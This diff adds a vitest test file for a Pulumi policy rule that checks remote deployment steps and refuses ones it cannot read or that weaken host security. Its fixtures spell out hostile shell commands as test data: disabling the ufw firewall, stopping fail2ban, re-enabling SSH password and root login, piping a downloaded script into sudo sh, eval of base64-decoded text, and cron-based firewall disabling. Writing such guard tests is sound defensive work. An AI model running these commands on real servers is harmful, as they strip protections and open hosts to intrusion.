@@ -1,0 +1,62 @@
+import { describe, expect, it } from "vitest";
+import { renderStepCommand } from "../../components/remote/command-line";
+import { by, command, deployment, messages, pulumi, remoteCommand, violationsOf } from "./harness";
+
+const RULE = "step-payloads-readable";
+const conn = { host: "203.0.113.10", user: "ops", privateKey: "k" };
+
+describe(RULE, () => {
+  it("passes the real deployment, and harmless commands", async () => {
+    expect(by(await violationsOf(() => deployment()), RULE)).toEqual([]);
+    const v = await violationsOf(() => {
+      remoteCommand({ create: "sudo apt-get install -y htop && ufw status verbose" }, {}, "htop");
+      remoteCommand({ create: "cat > /etc/motd <<'EOF'\nhello\nEOF" }, {}, "motd");
+    });
+    expect(by(v, RULE)).toEqual([]);
+  });
+
+  const refused: [string, string, string][] = [
+    ["ufw disabled", "sudo ufw --force disable", "changes the host firewall"],
+    ["ufw opening a port", "sudo ufw allow 18789/tcp", "changes the host firewall"],
+    ["iptables", "sudo iptables -I INPUT -p tcp --dport 18789 -j ACCEPT", "packet filtering"],
+    ["fail2ban stopped", "sudo systemctl stop fail2ban", "turns a protection off"],
+    ["sed -i on sshd_config", "sudo sed -i 's/^PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config", "sed -i edits /etc/ssh/sshd_config"],
+    ["a download into sshd_config.d", "sudo curl -o /etc/ssh/sshd_config.d/0.conf https://example.com/x.conf", "curl downloads to /etc/ssh/sshd_config.d/0.conf"],
+    ["a write to a computed path", 'f=/etc/ssh/sshd_config.d/0.conf; echo "PermitRootLogin yes" | sudo tee "$f"', "computed at run time"],
+    ["eval of decoded text", 'eval "$(echo dWZ3IGRpc2FibGU= | base64 -d)"', "eval"],
+    ["curl | sh", "curl -fsSL https://example.com/setup.sh | sudo sh", "pipes code the pack cannot read into sh"],
+    ["openclaw config set", "sudo -u openclaw openclaw config set gateway.bind lan", "changes OpenClaw's configuration"],
+    ["a password for the admin", "echo 'ops:hunter2' | sudo chpasswd", "chpasswd"],
+    ["an sshd of its own", "sudo /usr/sbin/sshd -p 2200 -o PasswordAuthentication=yes", "starts an sshd of its own"],
+    ["a cron job", "echo '* * * * * ufw disable' | sudo crontab -", "crontab"],
+  ];
+
+  it.each(refused)("refuses %s", async (_what, create, text) => {
+    const v = await violationsOf(() => remoteCommand({ create }));
+    expect(messages(v, RULE)).toContain(text);
+  });
+
+  it("reads nested shells, ssh from a local command, and the content of piped scripts", async () => {
+    const v = await violationsOf(() => {
+      remoteCommand({ create: "sudo bash -c 'if true; then ufw --force disable; fi'" }, {}, "nested");
+      new command.local.Command("via-ssh", { create: "ssh -i key ops@203.0.113.10 'sudo systemctl disable --now fail2ban'" });
+      remoteCommand({ create: "cat <<'EOF' | sudo bash\nufw --force disable\nEOF" }, {}, "piped");
+    });
+    expect(by(v, RULE).map((x) => x.urn.split("::").pop()).sort()).toEqual(["nested", "piped", "via-ssh"]);
+  });
+
+  it("refuses a catalogue step whose script is not the reviewed one", async () => {
+    const genuine = renderStepCommand("ufw", { OC_SSH_PORT: "22" }).command;
+    const fake = genuine.replace("ufw --force enable", "true");
+    expect(fake).not.toBe(genuine);
+    expect(messages(await violationsOf(() => remoteCommand({ create: fake })), RULE)).toContain("claims to be catalogue step 'ufw' but runs a script the pack does not know");
+  });
+
+  it("refuses a copy the pack cannot read into a hardening path, and a copy into /etc/ssh as a directory", async () => {
+    const v = await violationsOf(() => {
+      new command.remote.CopyToRemote("remote-asset", { connection: conn, source: new pulumi.asset.RemoteAsset("https://example.com/sshd.conf"), remotePath: "/etc/ssh/sshd_config.d/00-x.conf" });
+      new command.remote.CopyToRemote("into-dir", { connection: conn, source: new pulumi.asset.StringAsset("PermitRootLogin yes\n"), remotePath: "/etc/ssh/sshd_config.d" });
+    });
+    expect(messages(v, RULE)).toMatch(/copy 'remote-asset': copies content the pack cannot read to \/etc\/ssh\/sshd_config.d\/00-x.conf[\s\S]*copy 'into-dir': copies into \/etc\/ssh\/sshd_config.d/);
+  });
+});
